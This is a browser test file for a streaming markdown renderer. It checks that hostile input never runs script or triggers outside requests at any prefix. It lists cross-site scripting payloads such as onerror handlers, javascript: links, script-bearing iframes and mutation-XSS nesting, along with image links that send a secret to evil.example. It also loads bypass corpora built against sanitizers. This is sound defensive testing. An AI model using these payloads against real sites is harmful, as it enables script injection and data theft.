import { expect } from '@open-wc/testing';
import { StreamingMarkdown } from '../../../src/render/markdown/streaming-markdown.js';
import { corpus } from '../../helpers/corpora-browser.js';
import { elements, keepsAll, liveTargets, violations } from './markdown-tree.js';

/** Every prefix of a short text; of a longer one the first five hundred, then every seventh. */
function* steps(text: string): Generator<string> {
  for (let length = 1; length <= text.length; length += length < 500 ? 1 : 7) yield text.slice(0, length);
}

/** Streams a text into the page itself and looks at every step. */
function streamAndLook(text: string): void {
  const root = document.createElement('div');
  document.body.append(root);
  const renderer = new StreamingMarkdown(root);
  let shown: string[] = [];
  const look = (): void => {
    expect(violations(root), text).to.deep.equal([]);
    const now = liveTargets(root);
    expect(keepsAll(shown, now), `${shown.join()} then ${now.join()} in ${text}`).to.equal(true);
    shown = now;
  };
  for (const prefix of steps(text)) {
    renderer.update(prefix);
    look();
  }
  renderer.update(text, { done: true });
  look();
  root.remove();
}

const own = [
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>\n\n<script>alert(1)</script>',
  '[x](javascript:alert(1)) [y](java&#10;script:alert(1)) [z](&#106;avascript:alert(1))',
  '<javascript:alert(1)> <data:text/html,x> [a](data:text/html;base64,PHNjcmlwdD4=)',
  '![a](https://evil.example/?q=secret) ![b][c]\n\n[c]: https://evil.example/p.png',
  '[![a](https://evil.example/i)](https://x.y)',
  '[a](https://user:pw@x.y) [b](//x.y) [c](#top) [d](/x) [e](https:x.y) [f](<https://x.y/ z>)',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '~~~ js onclick=alert(1) class=x\na\n~~~',
  '| <img src=x> | [a](javascript:x) |\n|--|--|\n| ![x](https://evil.example) | `<b>` |',
  '[a]: javascript:alert(1)\n[b]: https://x.y\n\n[a] [b] [a][b]',
  '- [x] <input onfocus=alert(1) autofocus>\n- [ ] [x](javascript:x)',
  '<a href="https://x.y" onclick="x">t</a> <form action=https://x.y><button>b</button></form>',
  'https://x.y/<script>alert(1)</script>"onmouseover="x"',
  '<style>*{background:url(https://evil.example)}</style>',
  '[a](https://x.y "title\\" onclick=x") <https://x.y/"onclick="x>',
  '![a](https://evil.example/`b`) `![c](https://evil.example)` \\![d](https://evil.example)',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '1. a\n\n   <iframe srcdoc="<script>alert(1)</script>"></iframe>\n2. b',
];

describe('hostile markdown at every prefix', () => {
  let requests: string[];
  let observer: PerformanceObserver;

  beforeEach(() => {
    requests = [];
    observer = new PerformanceObserver((list) => {
      requests.push(...list.getEntries().map((entry) => entry.name));
    });
    observer.observe({ type: 'resource' });
    Object.assign(globalThis, { alert: () => requests.push('alert') });
  });

  const settle = async (): Promise<void> => {
    await new Promise((resolve) => setTimeout(resolve, 50));
    requests.push(...observer.takeRecords().map((entry) => entry.name));
    observer.disconnect();
    // The browser asks for the icon of the test page by itself.
    const own = new RegExp(`^${location.origin}/(?:__(?:corpora|web)|favicon)`);
    expect(requests.filter((name) => !own.test(name))).to.deep.equal([]);
  };

  it('stays within the closed set for our own documents', async () => {
    for (const text of own) streamAndLook(text);
    await settle();
  });

  it('stays within the closed set for payloads against HTML sanitizers', async function () {
    this.timeout(120_000);
    const bytes = await corpus('dompurify-expect.json');
    const payloads = bytes ? (JSON.parse(new TextDecoder().decode(bytes)) as { payload: string }[]) : [];
    for (const { payload } of payloads) streamAndLook(payload);
    await settle();
  });

  it('stays within the closed set for documents against markdown sanitizers', async function () {
    this.timeout(240_000);
    const bytes = await corpus('vercel-markdown-bypass.json');
    const file = bytes
      ? (JSON.parse(new TextDecoder().decode(bytes)) as { cases: { markdown: string }[] })
      : { cases: [] };
    for (const { markdown } of file.cases) streamAndLook(markdown.slice(0, 3000));
    await settle();
  });

  it('puts no names into reach of scripts', () => {
    const root = document.createElement('div');
    new StreamingMarkdown(root).update('<a id=x name=y>\n\n[a](https://x.y "id=z")\n\n```id\n```', {
      done: true,
    });
    for (const element of elements(root)) {
      expect(element.id).to.equal('');
      expect(element.hasAttribute('name')).to.equal(false);
    }
  });
});
